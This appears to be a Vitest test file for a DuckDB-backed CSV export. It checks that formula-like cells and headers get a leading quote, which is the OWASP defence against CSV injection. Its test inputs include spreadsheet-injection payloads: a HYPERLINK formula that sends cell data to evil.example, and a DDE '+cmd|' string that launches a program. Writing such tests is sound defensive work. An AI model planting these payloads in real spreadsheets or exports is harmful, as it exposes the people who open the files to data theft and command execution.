import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NodeDuckDB } from '../data/node-duckdb';
import { neutraliseFormula } from './csv-safe';

describe('neutraliseFormula (OWASP CSV Injection: prefix a leading = + - @ tab CR with a quote)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['@SUM(1+1)*cmd', `'@SUM(1+1)*cmd`],
    ['-1+1', `'-1+1`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['-', `'-`],
  ])('%j is neutralised', (input, expected) => expect(neutraliseFormula(input)).toBe(expected));

  it.each([
    'hello',
    '-12.5',
    '+44',
    '1e-3',
    '-.5',
    '',
    "'=already quoted",
    ' =1 (leading space is not a formula)',
    'a=b',
  ])('%j is left as it is', (input) => expect(neutraliseFormula(input)).toBe(input));
});

describe('DuckDB CSV export (the app, the runner and the SQL console all export through it)', () => {
  let db: NodeDuckDB;
  beforeAll(async () => {
    db = await NodeDuckDB.create();
    await db.exec(`CREATE TABLE t AS SELECT * FROM (VALUES
      (1, '=HYPERLINK("http://x")', -3.5, '-1+1'),
      (2, 'plain', 4.0, '-7'),
      (3, NULL, NULL, '@SUM(A1)')) AS v(id, note, delta, "=cmd")`);
  });
  afterAll(() => db.close());

  it('prefixes formula-like text cells and header names; numbers and plain numeric text stay', async () => {
    const csv = new TextDecoder().decode(await db.exportCsv('SELECT * FROM t ORDER BY id DESC'));
    // By hand: DuckDB quotes a field holding '"' (doubling it) or ','; -3.5 is a DOUBLE column, untouched.
    expect(csv.trim().split('\n')).toEqual([
      "id,note,delta,'=cmd",
      "3,,,'@SUM(A1)",
      '2,plain,4.0,-7',
      `1,"'=HYPERLINK(""http://x"")",-3.5,'-1+1`,
    ]);
  });

  it('leaves a query with no text and no formula-like names byte-identical', async () => {
    const csv = new TextDecoder().decode(await db.exportCsv('SELECT id, delta FROM t ORDER BY id'));
    expect(csv).toBe('id,delta\n1,-3.5\n2,4.0\n3,\n');
  });
});

describe('CSV export guards every column type but numbers', () => {
  let db: NodeDuckDB;
  beforeAll(async () => {
    db = await NodeDuckDB.create();
  });
  afterAll(() => db.close());

  it('neutralises formula cells from a Parquet BINARY column (read back as BLOB)', async () => {
    // A Parquet file with a BINARY (not UTF8-annotated) column, as another tool would write it.
    await db.exec(`CREATE TABLE src AS SELECT * FROM (VALUES
      (1, '=1+1'::BLOB), (2, '-1+1'::BLOB), (3, '@SUM(1)'::BLOB), (4, '+cmd|''/C calc''!A0'::BLOB), (5, 'plain'::BLOB), (6, '-7'::BLOB)) v(id, cell)`);
    const parquet = await db.exportParquet('SELECT * FROM src');
    const path = await db.registerFile('binary.parquet', new Blob([parquet as Uint8Array<ArrayBuffer>]));
    await db.importFile('bin', path, 'parquet');
    const types = (await db.query('DESCRIBE bin')).rows.map((r) => r.column_type);
    expect(types).toEqual(['INTEGER', 'BLOB']);
    const csv = new TextDecoder().decode(await db.exportCsv('SELECT * FROM bin ORDER BY id'));
    // By hand: each formula-like cell gets a leading '; DuckDB prints a BLOB's quote as \x27.
    expect(csv.trim().split('\n')).toEqual([
      'id,cell',
      "1,'=1+1",
      "2,'-1+1",
      "3,'@SUM(1)",
      "4,'+cmd|\\x27/C calc\\x27!A0",
      '5,plain',
      '6,-7',
    ]);
  });

  it('guards lists, structs, intervals and dates; numbers and booleans are written as they are', async () => {
    const csv = new TextDecoder().decode(
      await db.exportCsv(
        `SELECT ['=1'] AS l, {'a': 1} AS s, INTERVAL '-1 day' AS i, '-infinity'::DATE AS d, DATE '2024-01-02' AS day, -2.5 AS n, true AS b`,
      ),
    );
    expect(csv).toBe(`l,s,i,d,day,n,b\n['=1'],{'a': 1},'-1 day,'-infinity,2024-01-02,-2.5,true\n`);
  });
});
